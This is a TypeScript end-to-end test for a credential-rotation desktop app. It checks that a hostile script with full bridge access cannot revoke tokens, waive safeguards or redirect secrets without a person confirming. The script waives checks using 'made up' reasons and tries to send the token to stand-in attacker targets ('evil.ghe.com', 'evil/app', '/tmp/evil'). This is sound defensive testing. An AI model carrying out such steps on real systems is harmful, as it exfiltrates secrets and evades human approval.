import type { RekeyClient } from '../../src-preload/contract/index.ts'
import { expect, journey } from '../harness/journey.ts'
import { answerDialogs, askedQuestions } from '../harness/launch-app.ts'
import { type BridgeWindow, prepare } from '../harness/prepare.ts'

journey.use({ stageOptions: { repositories: 12, latencyMs: 0 } })

/** The script of somebody who owns the page and has the whole bridge, but nobody at the computer. */
journey(
  'a script with the whole bridge gets no token, sends none elsewhere and ends none: the system asks a person',
  async ({ stage }) => {
    const { github, scenario } = stage
    const app = await stage.launch()
    await prepare(stage, app)
    const newToken = scenario.issueNewDispatchToken()
    const verified = await app.page.evaluate(async (token) => {
      const { rekey } = globalThis as unknown as BridgeWindow
      const must = <T>(answer: { ok: true; value: T } | { ok: false; failure: { message: string } }): T => {
        if (!answer.ok) throw new Error(answer.failure.message)
        return answer.value
      }
      const { id } = must(await rekey.rotation.start({ credential: 'DISPATCH_PAT', reason: '' }))
      must(await rekey.rotation.receive({ id, token }))
      must(await rekey.rotation.validate({ id, allowDifferentLogin: false, runDispatchProbes: true }))
      must(await rekey.rotation.plan({ id }))
      must(await rekey.rotation.propagate({ id, pace: 'auto' }))
      for (;;) {
        const view = must(await rekey.rotation.view({ id }))
        if (!view.running && view.state !== 'planned') break
        await new Promise((resolve) => setTimeout(resolve, 100))
      }
      // What is in the way of the revoke it waives itself, with reasons that it makes up.
      const view = must(await rekey.rotation.view({ id }))
      for (const each of view.destinations)
        if (each.state === 'failed' || each.state === 'pending' || each.state === 'skipped')
          await rekey.rotation.waive({ id, destination: each.id, reason: 'made up' })
      await rekey.rotation.verify({ id, runDispatchProbes: true })
      const list = must(await rekey.rotation.checklist({ id }))
      for (const each of list.conditions)
        if (each.state === 'open' || each.state === 'problem')
          await rekey.rotation.waiveCondition({ id, condition: each.name, reason: 'made up' })
      return id
    }, newToken)
    await app.page.evaluate(async () => {
      const { rekey } = globalThis as unknown as BridgeWindow
      await rekey.app.writeSetting({ key: 'mode', value: 'read-only' })
    })
    await answerDialogs(app.electron, 'Cancel')

    const answers = await app.page.evaluate(
      async ({ id, foreign }) => {
        const { rekey } = globalThis as unknown as { rekey: RekeyClient }
        const word = async (): Promise<string> => {
          const list = await rekey.rotation.checklist({ id })
          return list.ok ? list.value.confirmation : ''
        }
        const leak = await rekey.leak.reportCredential({ credential: 'DISPATCH_PAT' })
        const leakId = leak.ok ? leak.value.id : ''
        await rekey.leak.decide({ id: leakId, decision: 'revoke-now' })
        const said: Record<string, string> = {}
        const attempt = async (
          name: string,
          call: () => Promise<{ ok: boolean; failure?: { kind: string } }>,
        ) => {
          const answer = await call()
          said[name] = answer.ok ? 'done' : (answer.failure?.kind ?? '')
        }
        const place = (at: object) => ({ credential: 'DISPATCH_PAT', place: at as never })
        await attempt('revoke in read-only mode', async () =>
          rekey.rotation.revoke({ id, confirmation: await word(), typedName: 'DISPATCH_PAT' }),
        )
        await attempt('turn on changes', () => rekey.app.writeSetting({ key: 'mode', value: 'changes' }))
        await attempt('never lock', () => rekey.app.writeSetting({ key: 'lock.after', value: 'off' }))
        await attempt('another host', () =>
          rekey.account.connect({ host: 'evil.ghe.com', owner: '', token: foreign }),
        )
        await attempt('a repository of its own', () =>
          rekey.inventory.addDestinations(
            place({ at: 'repository', family: 'actions', repositories: ['evil/app'], secret: 'X' }),
          ),
        )
        await attempt('a Heroku app of its own', () =>
          rekey.inventory.addDestinations(place({ at: 'heroku', apps: ['evil-app'], configVar: 'X' })),
        )
        await attempt('a file of its own', () =>
          rekey.inventory.addDestinations(
            place({ at: 'dotenv', file: '/tmp/evil', variable: 'X', encrypt: null }),
          ),
        )
        await attempt('remove the credential', () => rekey.credential.remove({ name: 'DISPATCH_PAT' }))
        await attempt('revoke as leaked', () =>
          rekey.leak.revoke({
            id: leakId,
            word: 'REVOKE',
            reason: 'made up',
            fromSuspectMachine: true,
            evenOnlySignIn: true,
          }),
        )
        return said
      },
      { id: verified, foreign: scenario.tokens.operator },
    )
    expect(answers).toEqual({
      'revoke in read-only mode': 'blocked',
      'turn on changes': 'cancelled',
      'never lock': 'cancelled',
      'another host': 'cancelled',
      'a repository of its own': 'cancelled',
      'a Heroku app of its own': 'cancelled',
      'a file of its own': 'invalid-input',
      'remove the credential': 'cancelled',
      'revoke as leaked': 'blocked',
    })
    expect(github.tokens.find(scenario.tokens.dispatchOld)?.revokedAt ?? null).toBeNull()

    // Somebody turned on changes, and then left the window to the script.
    await answerDialogs(app.electron, 'Turn on changes')
    await app.page.evaluate(async () => {
      await (globalThis as unknown as BridgeWindow).rekey.app.writeSetting({ key: 'mode', value: 'changes' })
    })
    expect(await askedQuestions(app.electron)).toEqual([
      expect.stringMatching(
        /^Let this window change secrets\? octo-bot on github\.com: \d+ destinations of \d+ cred/,
      ),
    ])
    await answerDialogs(app.electron, 'Cancel')
    const revoked = await app.page.evaluate(async (id) => {
      const { rekey } = globalThis as unknown as { rekey: RekeyClient }
      const list = await rekey.rotation.checklist({ id })
      if (!list.ok) return list.failure.message
      const { confirmation } = list.value
      const answer = await rekey.rotation.revoke({ id, confirmation, typedName: 'DISPATCH_PAT' })
      return answer.ok ? 'done' : answer.failure.message
    }, verified)
    expect(revoked).toBe('You chose Cancel. Nothing was done.')
    expect(await askedQuestions(app.electron)).toEqual([
      expect.stringMatching(
        /^Revoke the old token of DISPATCH_PAT\? .+ of octo-bot on github\.com\. \d+ of \d+ destinations verified\..* GitHub cannot bring it back\. \[Cancel\] \[Revoke\]$/,
      ),
    ])
    expect(github.tokens.find(scenario.tokens.dispatchOld)?.revokedAt ?? null).toBeNull()
    const audit = await app.page.evaluate(async () => {
      const { rekey } = globalThis as unknown as { rekey: RekeyClient }
      const list = await rekey.audit.list({ before: null, limit: 100 })
      return list.ok ? list.value.entries.map(({ action }) => action) : []
    })
    expect(audit.filter((action) => action === 'question.declined').length).toBeGreaterThanOrEqual(7)
    expect(audit).toContain('question.agreed')
  },
)
